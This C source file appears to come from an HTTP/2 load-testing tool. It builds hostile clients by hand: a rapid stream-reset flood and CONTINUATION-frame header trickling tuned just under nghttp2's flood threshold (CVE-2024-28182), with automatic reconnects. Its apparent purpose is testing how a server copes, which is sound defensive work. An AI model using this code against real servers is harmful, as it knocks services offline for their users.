// Callers that mean harm, beside those that are measured: frames of HTTP/2 written by hand, on
// connections of their own. What a server ends for it is opened again, and counted.
//
// Resets: streams opened, and cancelled with the next tick of the clock, so that the server has
// begun with them. Trickle: requests whose header block comes in pieces of 1 KiB, HEADERS and seven
// CONTINUATION frames, as many as nghttp2 takes before it calls them a flood (CVE-2024-28182).

#include "load.h"

enum { HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, WINDOW_UPDATE = 8, CONTINUATION = 9 };
enum { END_STREAM = 1, END_HEADERS = 4, CANCEL = 8 };
// A block is half of what servers take, and most of it fields of 235 bytes.
enum { BLOCK = 8192, FRAGMENT = 1024, FIELD_VALUE = 220, FIELD = 1 + 1 + 12 + 2 + FIELD_VALUE };
// A caller that was thrown out comes again after as many ns, not at once.
static const double PAUSE = 10e6;

static char block[BLOCK];
static size_t block_size;

static void add_frame(struct conn *conn, int kind, int flags, uint32_t id, const void *payload,
                      size_t size) {
    unsigned char head[9] = {
        (unsigned char)(size >> 16), (unsigned char)(size >> 8), (unsigned char)size,
        (unsigned char)kind, (unsigned char)flags, (unsigned char)(id >> 24),
        (unsigned char)(id >> 16), (unsigned char)(id >> 8), (unsigned char)id};
    buffer_add(&conn->out, head, sizeof head);
    buffer_add(&conn->out, payload, size);
}

static size_t add_text(char *to, const char *text, size_t size) {
    to[0] = (char)(size < 127 ? size : 127);
    size_t at = 1;
    if (size >= 127) {
        // The rest in seven bits each, RFC 7541 section 5.1; it fits into two bytes here.
        to[at++] = (char)(((size - 127) & 0x7F) | ((size - 127) > 0x7F ? 0x80 : 0));
        if (size - 127 > 0x7F) to[at++] = (char)((size - 127) >> 7);
    }
    memcpy(to + at, text, size);
    return at + size;
}

// A header block without Huffman or the dynamic table: literals, names of the static table.
static void make_block(void) {
    const char *path = settings.trickle > 0 ? "/health" : settings.path;
    // :method GET is 2, POST 3, :scheme https 7, :authority 1, :path 4 (RFC 7541 appendix A).
    block[block_size++] = (char)(settings.trickle > 0 ? 0x82 : 0x83);
    block[block_size++] = (char)0x87;
    block[block_size++] = 0x01;
    block_size += add_text(block + block_size, "llm.example", 11);
    block[block_size++] = 0x04;
    block_size += add_text(block + block_size, path, strlen(path));
    char name[] = "x-trickle-00", value[FIELD_VALUE];
    memset(value, 'v', sizeof value);
    for (int i = 0; settings.trickle > 0 && block_size + FIELD < BLOCK; i++) {
        name[10] = (char)('0' + i / 10);
        name[11] = (char)('0' + i % 10);
        block[block_size++] = 0;
        block_size += add_text(block + block_size, name, sizeof name - 1);
        block_size += add_text(block + block_size, value, sizeof value);
    }
}

void hostile_begin(struct conn *conn) {
    if (!block_size) make_block();
    buffer_add(&conn->out, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
    add_frame(conn, SETTINGS, 0, 0, "", 0);
    add_frame(conn, SETTINGS, 1, 0, "", 0);
    add_frame(conn, WINDOW_UPDATE, 0, 0, "\x3f\xff\x00\x00", 4);
    conn->next_id = 1;
    conn->last_id = 0;
    conn->block_at = 0;
    conn->due = (double)now_ns();
    conn_flush(conn);
}

static void reset_and_open(struct conn *conn, int count) {
    while (conn->last_id && conn->last_id < conn->next_id) {
        add_frame(conn, RST_STREAM, 0, conn->last_id, "\0\0\0\x08", 4);
        conn->last_id += 2;
        counts.resets++;
    }
    conn->last_id = conn->next_id;
    for (int i = 0; i < count; i++, conn->next_id += 2)
        add_frame(conn, HEADERS, END_STREAM | END_HEADERS, conn->next_id, block, block_size);
}

static void trickle(struct conn *conn, int count) {
    for (int i = 0; i < count; i++) {
        size_t left = block_size - conn->block_at, size = left < FRAGMENT ? left : FRAGMENT;
        bool is_first = conn->block_at == 0, is_last = size == left;
        add_frame(conn, is_first ? HEADERS : CONTINUATION,
                  (is_first ? END_STREAM : 0) | (is_last ? END_HEADERS : 0), conn->next_id,
                  block + conn->block_at, size);
        counts.header_bytes += size;
        conn->block_at = is_last ? 0 : conn->block_at + size;
        if (is_last) conn->next_id += 2;
    }
}

// What is due by now.
void hostile_tick(struct conn *conn, uint64_t now) {
    if (conn->state == DEAD && (double)now > conn->due + PAUSE) {
        counts.reconnects++;
        return conn_start(conn);
    }
    if (conn->state != OPEN || conn->out.from < conn->out.to) return;
    double each = 1e9 / (conn->use == RESETS ? settings.resets : settings.trickle / FRAGMENT);
    int count = (int)(((double)now - conn->due) / each);
    conn->due += count * each;
    if (count <= 0 && conn->use == TRICKLE) return;
    if (conn->use == RESETS) reset_and_open(conn, count < 1000 ? count : 1000);
    else trickle(conn, count < 1000 ? count : 1000);
    conn_flush(conn);
}
